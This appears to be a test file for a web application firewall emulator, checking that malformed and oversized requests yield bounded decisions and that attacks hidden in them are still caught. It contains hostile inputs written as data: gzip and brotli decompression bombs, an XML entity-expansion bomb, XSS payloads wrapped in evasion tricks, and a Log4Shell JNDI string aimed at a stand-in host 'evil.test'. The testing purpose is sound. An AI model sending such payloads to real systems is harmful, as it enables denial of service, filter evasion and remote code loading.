import assert from 'node:assert/strict';
import { test } from 'node:test';
import { brotliCompressSync, deflateRawSync, gzipSync } from 'node:zlib';
import type { Exchange } from '../../../src/base/exchange.ts';
import { ask, type CaseRequest } from '../../../src/guard/decide/waf/cases.ts';
import waf from '../../../src/guard/decide/waf/waf.ts';
import { acl, aclArn, definition, exchangeOf, given, rule } from '../decide/at-hand.ts';

const groups: { VendorName: string; Name: string; ExcludedRules?: object[] }[] = [
  {
    VendorName: 'AWS',
    Name: 'AWSManagedRulesCommonRuleSet',
    ExcludedRules: ['QUERYSTRING', 'BODY', 'URIPATH'].map((what) => ({ Name: `SizeRestrictions_${what}` })),
  },
  { VendorName: 'AWS', Name: 'AWSManagedRulesKnownBadInputsRuleSet' },
  { VendorName: 'AWS', Name: 'AWSManagedRulesSQLiRuleSet' },
];
const all = [...groups, { VendorName: 'Portcullis', Name: 'PortcullisApiRuleSet' }].map((of, priority) =>
  rule(of.Name, { ManagedRuleGroupStatement: of }, null, { overrideAction: { Count: {} }, priority }),
);
const at = given(
  definition({
    webAcls: [
      acl(all, {
        associationConfig: { RequestBody: { API_GATEWAY: { DefaultSizeInspectionLimit: 'KB_64' } } },
      }),
    ],
  }),
);
const decide = waf.compile({ webAcl: aclArn }, at);

const json = ['Content-Type', 'application/json'];
const post = (body: string | Buffer, ...headers: string[]): CaseRequest =>
  ask({ method: 'POST', headers, body: typeof body === 'string' ? body : body.toString('latin1') });
const fill = (piece: string, bytes = 65_536): string =>
  piece.repeat(Math.ceil(bytes / piece.length)).slice(0, bytes);
const zeros = Buffer.alloc(20_000_000);
const script = '<script>alert(1)</script>';

const requests: Readonly<Record<string, CaseRequest>> = {
  'JSON that breaks off': post('{"a":{"b":[1,2,{"c":"<script>', ...json),
  'JSON of nothing but brackets': post(fill('['), ...json),
  'JSON nested ten thousand deep': post(`${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`, ...json),
  'JSON within JSON within JSON': post(
    Array.from({ length: 12 }).reduce<string>((text) => JSON.stringify({ a: text }), script),
    ...json,
  ),
  'JSON of a hundred thousand keys': post(`{${fill('"a":1,', 600_000)}"b":2}`, ...json),
  'one key a hundred thousand letters long': post(JSON.stringify({ ['a'.repeat(100_000)]: 1 }), ...json),
  'XML nested ten thousand deep': post(`${'<a>'.repeat(10_000)}x`, 'Content-Type', 'application/xml'),
  'XML whose tags never close': post(fill('<a b="'), 'Content-Type', 'text/xml'),
  'entities that grow without end': post(
    `<!DOCTYPE a [${Array.from({ length: 60 }, (_, i) => `<!ENTITY e${i + 1} "&e${i};&e${i};">`).join('')}]><a>&e60;</a>`,
    'Content-Type',
    'application/xml',
  ),
  'multipart without a boundary': post(fill('--x\r\n'), 'Content-Type', 'multipart/form-data'),
  'multipart of ten thousand empty parts': post(
    fill('--x\r\n\r\n\r\n'),
    'Content-Type',
    'multipart/form-data; boundary=x',
  ),
  'multipart within multipart': post(
    fill('--x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n'),
    'Content-Type',
    'multipart/form-data; boundary=x',
  ),
  'a boundary of four thousand letters': post(
    'x',
    'Content-Type',
    `multipart/form-data; boundary=${'x'.repeat(4_000)}`,
  ),
  'a bomb of gzip': post(gzipSync(zeros), ...json, 'Content-Encoding', 'gzip'),
  'a bomb of brotli': post(brotliCompressSync(zeros), ...json, 'Content-Encoding', 'br'),
  'a bomb of deflate in a bomb of gzip': post(
    gzipSync(deflateRawSync(zeros)),
    ...json,
    'Content-Encoding',
    'deflate, gzip',
  ),
  'gzip that is none': post('not at all', ...json, 'Content-Encoding', 'gzip'),
  'gzip that breaks off': post(gzipSync(fill(script)).subarray(0, 40), ...json, 'Content-Encoding', 'gzip'),
  'a hundred codings': post('x', 'Content-Encoding', fill('gzip, ', 600)),
  'a charset that is none': post('{"a":"b"}', 'Content-Type', 'application/json; charset=x-klingon'),
  'UTF-16 that says it is UTF-8': post(Buffer.from(`\ufeff{"a":"${script}"}`, 'utf16le'), ...json),
  'half a character of UTF-16': post(Buffer.from([0xff, 0xfe, 0x3c, 0, 0x73]), ...json),
  'bytes that are no UTF-8': post(Buffer.alloc(65_536, 0xc3), ...json),
  'lone surrogates': post(fill('"\\ud800"'), ...json),
  'bytes by chance': post(
    Buffer.from(Array.from({ length: 65_536 }, (_, i) => (i * 2_654_435_761) >>> 24)),
    'Content-Type',
    'application/octet-stream',
  ),
  'a million arguments': ask({ target: `/?${fill('a=1&', 4_000_000)}` }),
  'a million arguments in a form': post(
    fill('a=1&', 4_000_000),
    'Content-Type',
    'application/x-www-form-urlencoded',
  ),
  'a million segments': ask({ target: fill('/a;b=c', 1_000_000) }),
  'a header of 64 KB': ask({ headers: ['X-A', fill('\'"<>;|&(){}')] }),
  'ten thousand headers': ask({
    headers: Array.from({ length: 20_000 }, (_, i) => (i % 2 === 0 ? 'X-A' : 'b')),
  }),
  'cookies of 64 KB': ask({ headers: ['Cookie', fill('a=b; ')] }),
  'encodings one over the other': ask({
    target: `/?a=${Array.from({ length: 30 }).reduce<string>((text) => encodeURIComponent(text), script)}`,
  }),
  'base64 of base64 of base64': post(
    JSON.stringify({
      a: Array.from({ length: 10 }).reduce<string>((text) => Buffer.from(text).toString('base64'), script),
    }),
    ...json,
  ),
  'a thousand bombs in base64': post(
    JSON.stringify({ a: fill(`${gzipSync(Buffer.alloc(60_000)).toString('base64')} `) }),
    ...json,
  ),
  'percent signs and nothing behind': ask({ target: `/%/%2/%zz?${fill('%', 8_000)}` }),
  'null characters': post('\0'.repeat(65_536), ...json),
};

/** As it stands before the web ACL, whole. */
async function arrived(request: CaseRequest): Promise<Exchange> {
  const x = await exchangeOf({ ...request, headers: ['User-Agent', 'x', ...request.headers] });
  x.prefixWhole = true;
  return x;
}

for (const [name, request] of Object.entries(requests))
  test(`${name}: a decision, and soon`, async () => {
    const x = await arrived(request);
    const before = process.memoryUsage().heapUsed;
    const decision = await decide(x);
    assert.ok(decision.action === 'pass' || decision.action === 'refuse');
    assert.equal(x.fault, null);
    assert.equal(x.seen, null, 'what was read is gone');
    assert.ok((x.unread?.length ?? 0) <= 8 && (x.unread ?? []).every((line) => line.length < 100));
    assert.ok(process.memoryUsage().heapUsed - before < 200_000_000);
  });

const remarks: Readonly<Record<string, RegExp>> = {
  'JSON that breaks off': /^body: is no JSON$/,
  'JSON nested ten thousand deep': /^body: more JSON than is looked at$/,
  'XML nested ten thousand deep': /^body: (?:is no|more) XML/,
  'a bomb of gzip': /^body: inflates past its bound$/,
  'gzip that is none': /^body: is no gzip$/,
  'a hundred codings': /^body: more than two content codings$/,
  'a charset that is none': /^body: a charset that is not known$/,
  'a million arguments': /^query: more arguments than are told apart$/,
  'a million segments': /^path: more segments than are told apart$/,
  'encodings one over the other': /^query: more encodings than are undone$/,
};

for (const [name, expected] of Object.entries(remarks))
  test(`${name}: what could not be read is remarked on`, async () => {
    const x = await arrived(requests[name]!);
    await decide(x);
    assert.ok(
      x.unread?.some((line) => expected.test(line)),
      `${x.unread}`,
    );
  });

const attacks: Readonly<Record<string, CaseRequest>> = {
  'behind a million arguments': ask({ target: `/?${fill('a=1&', 40_000)}b=${encodeURIComponent(script)}` }),
  'behind ten thousand JSON keys': post(`{${fill('"a":1,', 55_000)}"b":"${script}"}`, ...json),
  'in JSON that breaks off': post(`{"a":"${script}`, ...json),
  'ten thousand deep': post(`${'['.repeat(10_000)}"${script}"`, ...json),
  'in a body of a charset that is none': post(script, 'Content-Type', 'text/plain; charset=x-klingon'),
  'in a body whose coding is none': post(`a=${script}`, 'Content-Encoding', 'gzip'),
  'in UTF-16': post(Buffer.from(`\ufeff{"a":"${script}"}`, 'utf16le'), ...json),
  'behind many encodings that hide nothing': ask({
    target: `/?${fill('a=JTI1&', 20_000)}b=${encodeURIComponent(script)}`,
  }),
  'at the end of a header of 64 KB': ask({
    headers: ['X-A', `${fill('a ', 60_000)}\${jndi:ldap://evil.test/a}`],
  }),
};

for (const [name, request] of Object.entries(attacks))
  test(`an attack ${name} is still seen`, async () => {
    const x = await arrived(request);
    await decide(x);
    const ended = (x.waf!.groups ?? []).map((group) => group.terminating).join(' ');
    assert.match(ended, /CrossSiteScripting|Log4JRCE/);
  });
